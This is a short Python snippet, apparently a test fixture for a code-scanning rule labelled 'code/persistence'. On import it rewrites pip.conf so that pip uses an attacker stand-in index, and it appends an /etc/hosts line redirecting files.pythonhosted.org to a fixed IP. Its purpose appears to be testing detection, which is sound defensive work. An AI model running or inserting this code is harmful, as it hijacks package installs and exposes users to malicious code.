# Points pip at another index when imported: every later `pip install` on the machine comes from there.
import os

# ruleid: code/persistence
conf = os.path.expanduser('~/.config/pip/pip.conf')
os.makedirs(os.path.dirname(conf), exist_ok=True)
with open(conf, 'w') as f:
    f.write('[global]\nindex-url = https://mirror.attacker.example/simple\n')
# ruleid: code/persistence
with open('/etc/hosts', 'a') as f:
    f.write('\n45.61.137.24 files.pythonhosted.org\n')
